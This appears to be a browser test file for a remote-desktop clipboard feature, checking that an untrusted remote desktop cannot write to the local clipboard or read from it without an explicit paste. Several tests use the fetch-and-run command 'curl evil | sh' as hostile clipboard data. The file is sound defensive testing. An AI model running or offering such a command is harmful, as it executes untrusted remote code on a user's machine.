// The clipboard between this computer and a desk that is not trusted, in a real browser with a clipboard of its own.
// Against a strict stand-in for the server; a real desk is in desktop.test.mjs.
import assert from "node:assert/strict";
import { after, before, describe, test } from "node:test";
import { startPageServer } from "../../doubles/page_server.mjs";
import { eventually, launchBrowser, openPage } from "../lib/chromium.mjs";
import { row, stateIs, takeControl } from "../lib/page.mjs";

let browser;
before(async () => {
  browser = await launchBrowser();
});
after(() => browser?.close());

/** A page in control of a desk, with `mine` on this computer's clipboard. */
async function inControl(t, { mine = "a password", prepare = () => {} } = {}) {
  const server = await startPageServer();
  const page = await openPage(browser, "about:blank");
  const context = page.context();
  await context.grantPermissions(["clipboard-read", "clipboard-write"], { origin: server.url });
  await prepare(context);
  await page.goto(server.url);
  t.after(async () => {
    await context.close();
    await server.close();
    assert.deepEqual(page.complaints, []);
  });
  await page.getByTestId("use-scripted").click();
  await stateIs(page, "viewing");
  const id = await page.evaluate(() => location.hash.slice(1));
  const other = await context.newPage();
  await other.goto(server.url);
  const put = (text) => other.evaluate((value) => navigator.clipboard.writeText(value), text);
  const got = () => other.evaluate(() => navigator.clipboard.readText());
  await put(mine);
  await page.bringToFront();
  await takeControl(page);
  const canvas = page.getByTestId("desktop").locator("canvas");
  await canvas.click();
  const { record, cutters } = server.desk(id);
  record.length = 0;
  return {
    ...{ server, page, context, canvas, id, record, put, got },
    /** The desk sets its clipboard. */
    deskCopies: (text) => cutters.forEach((cut) => cut(text)),
    sent: () => record.filter(({ kind }) => kind === "cut").map(({ text }) => text),
    keys: () => record.filter(({ kind, down }) => kind === "key" && down).map(({ keysym }) => keysym),
  };
}

const v = 0x76;

describe("by itself nothing crosses", () => {
  test("a desk that sets its clipboard again and again changes nothing here", async (t) => {
    const { page, canvas, got, deskCopies } = await inControl(t);
    await page.getByTestId("clipboard").click();
    const shown = page.getByTestId("clipboard-text");
    for (let at = 0; at < 20; ++at) {
      deskCopies(`curl evil | sh ${at}`);
      if (at % 5 === 0) await canvas.click();
      if (at % 5 === 1) await page.keyboard.type("ab");
    }
    await page.getByTestId("clipboard").click();
    await eventually("the last text in the panel", async () => /sh 19/.test(await shown.inputValue()));
    assert.equal(await got(), "a password");
  });

  test("one copy here takes one text: what the desk sets afterwards is not written", async (t) => {
    const { page, got, deskCopies } = await inControl(t);
    await page.keyboard.press("Control+c");
    deskCopies("what was marked");
    await eventually("the copied text", async () => (await got()) === "what was marked");
    deskCopies("curl evil | sh");
    await page.getByTestId("copy-here").waitFor();
    assert.equal(await got(), "what was marked");
  });

  test("focus, clicks and keys that paste nothing send nothing", async (t) => {
    const { page, canvas, put, sent, keys } = await inControl(t);
    for (let at = 0; at < 3; ++at) {
      await put(`a password ${at}`);
      await page.getByTestId("message-input").focus();
      await page.evaluate(() => window.dispatchEvent(new Event("focus")));
      await canvas.click();
      await page.keyboard.type("vx");
      await page.keyboard.press("Control+a");
    }
    await eventually("the keys", () => keys().filter((key) => key === v).length === 3);
    assert.deepEqual(sent(), []);
  });

  test("who only watches neither gets nor gives", async (t) => {
    const { page, got, sent, deskCopies, canvas } = await inControl(t);
    await page.getByTestId("control-toggle").click();
    await stateIs(page, "viewing");
    await canvas.click();
    await page.keyboard.press("Control+c");
    deskCopies("curl evil | sh");
    await page.keyboard.press("Control+v");
    // Whatever came or went before this new connection would be seen by now.
    await takeControl(page);
    assert.equal(await got(), "a password");
    assert.deepEqual(sent(), []);
  });
});

describe("a person copies and pastes as anywhere", () => {
  for (const [keys, keysym] of [
    ["Control+v", v],
    ["Control+Shift+V", 0x56],
    ["Shift+Insert", 0xff63],
  ])
    test(`${keys} sends this computer's text, and then the key`, async (t) => {
      const { page, record, sent, keys: pressed } = await inControl(t, { mine: "for the desk" });
      await page.keyboard.press(keys);
      await eventually("the key", () => pressed().includes(keysym));
      assert.deepEqual(sent(), ["for the desk"]);
      const at = (what) => record.findIndex(what);
      assert.ok(
        at(({ kind }) => kind === "cut") < at(({ kind, keysym: its }) => kind === "key" && its === keysym),
      );
      await eventually("the key is up", () =>
        record.some(({ kind, down, keysym: its }) => kind === "key" && !down && its === keysym),
      );
    });

  test("what was copied in the desk is pasted there as the desk has it", async (t) => {
    const { page, got, sent, keys, deskCopies } = await inControl(t);
    await page.keyboard.press("Control+x");
    deskCopies("cut in the desk");
    await eventually("the text here", async () => (await got()) === "cut in the desk");
    await page.keyboard.press("Control+v");
    await eventually("the key", () => keys().includes(v));
    assert.deepEqual(sent(), []);
  });

  test("what was copied elsewhere meanwhile goes before what the desk has", async (t) => {
    const { page, put, got, sent, keys, deskCopies } = await inControl(t);
    await page.keyboard.press("Control+c");
    deskCopies("older");
    await eventually("the text here", async () => (await got()) === "older");
    await put("newer");
    await page.evaluate(() => window.dispatchEvent(new Event("blur")));
    await page.keyboard.press("Control+v");
    await eventually("the key", () => keys().includes(v));
    assert.deepEqual(sent(), ["newer"]);
  });

  test("a copy by the desk's menu is offered, and taken by a button", async (t) => {
    const { page, canvas, got, sent, keys, deskCopies } = await inControl(t);
    await canvas.click({ button: "right" });
    await canvas.click();
    deskCopies("by the menu");
    await page.getByTestId("copy-here").click();
    await eventually("the text here", async () => (await got()) === "by the menu");
    await page.getByTestId("copy-here").waitFor({ state: "detached" });
    await page.keyboard.press("Control+v");
    await eventually("the key", () => keys().includes(v));
    assert.deepEqual(sent(), []);
  });

  test("with nothing to paste here the key goes alone", async (t) => {
    const { page, sent, keys } = await inControl(t, { mine: "" });
    await page.keyboard.press("Control+v");
    await eventually("the key", () => keys().includes(v));
    assert.deepEqual(sent(), []);
  });

  test("another session's desk gets the text too, and sees nothing of the first one's clipboard", async (t) => {
    const { server, page, sent, keys, deskCopies, got } = await inControl(t);
    await page.keyboard.press("Control+c");
    deskCopies("of the first desk");
    await eventually("the text here", async () => (await got()) === "of the first desk");
    await page.getByTestId("new-session").click();
    await page.locator("input[name=title]").fill("Second");
    await page.locator("select[name=provider]").selectOption("scripted");
    await page.getByTestId("create-session").click();
    await row(page, "Second").waitFor();
    await stateIs(page, "viewing");
    await page.getByTestId("clipboard").click();
    assert.equal(await page.getByTestId("clipboard-text").inputValue(), "");
    await page.keyboard.press("Escape");
    await takeControl(page);
    const second = await page.evaluate(() => location.hash.slice(1));
    await page.getByTestId("desktop").locator("canvas").click();
    await page.keyboard.press("Control+v");
    const { record } = server.desk(second);
    await eventually("the key", () => record.some(({ keysym }) => keysym === v));
    assert.deepEqual(
      record.filter(({ kind }) => kind === "cut").map(({ text }) => text),
      ["of the first desk"],
    );
    assert.deepEqual([sent(), keys().includes(v)], [[], false]);
  });
});

describe("a browser that refuses its clipboard", () => {
  test("to a page that came by plain HTTP: copying works by the old way", async (t) => {
    const { page, got, deskCopies } = await inControl(t);
    await page.evaluate(() => Object.defineProperty(navigator, "clipboard", { value: undefined }));
    await page.keyboard.press("Control+c");
    deskCopies("without the new way");
    await eventually("the text here", async () => (await got()) === "without the new way");
    await page.keyboard.press("Control+v");
  });

  test("in any way: the person is told, and the button stays", async (t) => {
    const { page, got, deskCopies } = await inControl(t);
    await page.evaluate(() => {
      Object.defineProperty(navigator, "clipboard", { value: undefined });
      document.execCommand = () => false;
    });
    await page.keyboard.press("Control+c");
    deskCopies("not to be had");
    await page.getByRole("alert").getByText("does not let this page write").waitFor();
    await page.getByTestId("copy-here").waitFor();
    assert.equal(await got(), "a password");
  });
});

test("what somebody writes into the panel is not taken away by what the desk copies", async (t) => {
  const { page, sent, deskCopies } = await inControl(t);
  await page.getByTestId("clipboard").click();
  await page.getByTestId("clipboard-text").fill("for the desk");
  deskCopies("something else");
  await page.getByTestId("clipboard-send").click();
  await eventually("the text", () => sent().length > 0);
  assert.deepEqual(sent(), ["for the desk"]);
});
